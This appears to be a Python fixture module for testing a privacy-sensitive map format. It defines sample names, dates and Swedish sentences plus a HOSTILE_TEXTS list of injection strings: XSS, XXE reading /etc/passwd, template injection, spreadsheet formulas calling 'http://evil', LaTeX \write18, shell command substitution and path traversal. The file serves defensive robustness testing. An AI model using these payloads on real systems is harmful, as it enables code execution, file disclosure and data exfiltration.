"""The few names, words and hostile texts that random maps are made of.

The pools are small on purpose: two people share a name, two homes an address, and a
leak by collision shows (privacy §1.5).
"""

from __future__ import annotations

from typing import Any

__all__ = [
    "ADDRESSES",
    "AREAS",
    "DATES",
    "EXTENSIONS",
    "HOSTILE_TEXTS",
    "LANGUAGES",
    "NAMES",
    "SENTENCES",
    "WHENS",
]

NAMES = ("Anna", "Åsa", "Milo", "Sara Lind", "Johan", "Noor", "سارة")
ADDRESSES = ("Exempelgatan 1, Almvik", "Provvägen 12", "Exempelgatan 1 B")
#: In order: none surely comes before the one that stands before it.
DATES = (
    "2024-autumn",
    "2025",
    "2025-spring%",
    "2025-09",
    "2025-09-12",
    "2025-11~",
    "2025-12-01",
    "2026-01-05",
    "2026-02-10",
)
#: What else a day of the past can be.
WHENS = (
    *DATES[1:7],
    "2024-winter?",
    "2025-03/2025-05-17",
    "../2025-09-03",
    "2025-08~/..",
    "unknown",
)
LANGUAGES = ("ar", "en", "sv", "so-SO")
AREAS = ("barnets_utveckling/halsa", "foraldrarnas_formaga")
EXTENSIONS: tuple[dict[str, Any], ...] = (
    {"exempelsystem": {"rad": 17, "namn": ["Åsa", None]}},
    {},
)
SENTENCES = (
    "Anna ringde.",
    "Milo hittades ute utan jacka.",
    "Ingen vaken vuxen på kvällen.",
    "Mormor kom och sov över.",
    "Sara läser varje kväll.",
    "Skolan säger att det går bra.",
    "Vi är oroliga för att Milo blir ensam igen.",
    "Han gick ut och ringde sin bror.",
    "Två rader\nhär.",
)

#: Texts that a map may hold and that break careless writers (privacy §2.6): what the
#: format refuses (control characters, overrides, surrogates) is not among them.
HOSTILE_TEXTS = (
    "<b>fet</b>",
    '<TABLE><TR><TD HREF="javascript:alert(1)">x</TD></TR></TABLE>',
    '<IMG SRC="/etc/passwd"/>',
    "\\N \\G \\E \\T \\H \\L rad\\l vänster\\r slut\\",
    '"]; evil [label="ägd',
    '\\"]; evil2 [label="x',
    "a -> b; subgraph cluster_x {",
    "a|b{c}<p>d",
    "&lt;script&gt; &#x202e;txt &xxe; &lol9; %p;",
    "<script>alert(1)</script>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "</title><script>1</script>",
    "]]><x/><![CDATA[",
    "--><script>1</script><!--",
    "java\nscript:alert(1)",
    '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;',
    "{{7*7}} ${7*7} <%= 7 %> #{7}",
    "%s %(name)s {0} {name} {x.__init__.__globals__}",
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "\t=1+1",
    "@SUM(A1)",
    "_x000D_ _x0041_",
    "\ufeffnamn",
    "محمد \u200f(12)",
    "A\u200bn\u200bna",
    "А\u0301nna Ａｎｎａ A\u030asa ﬁ ß İ ı ſ \u212a",
    "👩\u200d👩\u200d👧\u200d👦🏳\ufe0f\u200d🌈",
    "Z" + "\u0335" * 60 + "algo",
    "rad\u2028rad\u2029rad",
    "[red]x[/red] [link=http://evil]y",
    "# Rubrik\n> citat\n- lista\n1. x",
    "[x](javascript:alert(1)) ![x](http://evil/a.png) <http://evil>",
    "``` ~~~ ` *_~^$\\",
    "a|b\n---|---",
    '#panic("x") #read("secret.txt") #import "@preview/cetz:0.2.2"',
    "= H $x$ @ref <lbl> /* // ~ --",
    "\\input{/etc/passwd} \\write18{id} % ^^5c",
    '%%{init:{"securityLevel":"loose"}}%%',
    "Möte\nATTENDEE:mailto:evil@x\nBEGIN:VALARM",
    "Anna\n0 @I2@ INDI\n1 NAME Evil",
    "../../etc/passwd ..\\..\\x CON nul.txt",
    "-rf --output=/x @argsfile $(id) `id` ;id |id",
    'file:///etc/passwd \\\\evil\\share <w:p/> { INCLUDEPICTURE "http://evil" }',
    "null",
    "w" * 500,
    "\u200bx",
)
